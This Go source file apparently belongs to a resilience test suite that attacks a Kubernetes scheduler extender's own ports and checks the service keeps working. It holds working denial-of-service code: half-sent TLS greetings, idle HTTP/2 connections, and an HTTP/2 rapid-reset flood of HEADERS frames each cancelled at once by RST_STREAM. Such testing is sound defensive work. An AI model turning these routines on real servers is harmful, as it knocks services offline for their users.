// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func connections() []attempt {
	const works = "nothing, and the victim's pods start"
	return []attempt{
		{outsider(), fmt.Sprintf("%d clients at every port that send half a TLS greeting", slowClients), "a time limit of each port", slowGreeting},
		{outsider(), fmt.Sprintf("%d connections to every port that are left open after the HTTP/2 greeting", slowClients), works, silentStreams(outsiders)},
		{outsider(), fmt.Sprintf("%d connections to every port that begin streams of HTTP/2 and end them at once", fewFloods), works, flood(outsiders)},
		{holder("a kube-scheduler"), "the same, at the extender", works, flood(func(s *Scene) []door { return s.extenderDoors() })},
	}
}

const (
	fewFloods = 4
	perFlush  = 50
)

type door struct {
	address     string
	certificate *tls.Certificate // nil: none
}

func outsiders(s *Scene) []door {
	var all []door
	for _, address := range s.Addresses {
		all = append(all, door{address: address})
	}
	return all
}

func (s *Scene) extenderDoors() []door { return s.withCertificate(s.Extenders, s.keys.scheduler) }

func (s *Scene) withCertificate(ports []string, certificate tls.Certificate) []door {
	var all []door
	for _, address := range ports {
		all = append(all, door{address, &certificate})
	}
	return all
}

// It fails if the port does not speak HTTP/2.
func (d door) greet(ctx context.Context) (*tls.Conn, *http2.Framer, error) {
	config := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}} //nolint:gosec // an attacker does not ask who answers
	if d.certificate != nil {
		config.Certificates = []tls.Certificate{*d.certificate}
	}
	raw, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", d.address)
	if err != nil {
		return nil, nil, err
	}
	conn := raw.(*tls.Conn)
	if conn.ConnectionState().NegotiatedProtocol != "h2" {
		conn.Close()
		return nil, nil, errors.New("it does not speak HTTP/2")
	}
	framer := http2.NewFramer(conn, conn)
	if _, err = conn.Write([]byte(http2.ClientPreface)); err == nil {
		err = framer.WriteSettings()
	}
	if err == nil {
		_, err = framer.ReadFrame() // the server's settings: it is let in
	}
	if err != nil {
		conn.Close()
	}
	return conn, framer, err
}

// Each port must hang up by itself, and all must work meanwhile.
func slowGreeting(ctx context.Context, s *Scene, _ clients) error {
	return s.hangUp(ctx, []byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01})
}

func silentStreams(doors func(*Scene) []door) try {
	return func(ctx context.Context, s *Scene, _ clients) error {
		var open []*tls.Conn
		for _, d := range doors(s) {
			for range slowClients {
				conn, _, err := d.greet(ctx)
				if err != nil {
					break // it does not speak HTTP/2, or refuses all
				}
				open = append(open, conn)
			}
		}
		working := s.works(ctx)
		for _, conn := range open {
			conn.Close()
		}
		if len(open) == 0 {
			return errors.New("no port speaks HTTP/2")
		}
		return working
	}
}

// At a port that refuses all, the connections alone are the flood.
func flood(doors func(*Scene) []door) try {
	return func(ctx context.Context, s *Scene, _ clients) error {
		flooding, stop := context.WithCancel(ctx)
		var all sync.WaitGroup
		var streams, refused atomic.Int64
		for _, d := range doors(s) {
			for range fewFloods {
				all.Go(func() {
					for flooding.Err() == nil {
						if n, err := d.rapidReset(flooding); err != nil && n == 0 {
							refused.Add(1)
							return
						} else {
							streams.Add(int64(n))
						}
					}
				})
			}
		}
		working := s.works(ctx)
		stop()
		all.Wait()
		if streams.Load() == 0 {
			return fmt.Errorf("no stream was begun, and %d connections were refused", refused.Load())
		}
		return working
	}
}

func (d door) rapidReset(ctx context.Context) (int, error) {
	conn, framer, err := d.greet(ctx)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	var drained sync.WaitGroup
	defer drained.Wait()
	defer conn.Close()
	drained.Go(func() { // so that the server can answer
		for {
			if _, err := framer.ReadFrame(); err != nil {
				return
			}
		}
	})
	var fields bytes.Buffer
	encoder := hpack.NewEncoder(&fields)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "x"}, {":path", "/filter"}, {"content-type", "application/json"}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory; none is kept for later
	}
	var out bytes.Buffer
	writer := http2.NewFramer(&out, nil)
	n := 0
	for id := uint32(1); id < 1<<30; {
		out.Reset()
		for range perFlush {
			_ = writer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields.Bytes(), EndHeaders: true})
			_ = writer.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		_ = writer.WritePing(false, [8]byte{})
		if _, err := conn.Write(out.Bytes()); err != nil {
			return n, err
		}
		n += perFlush
	}
	return n, nil
}
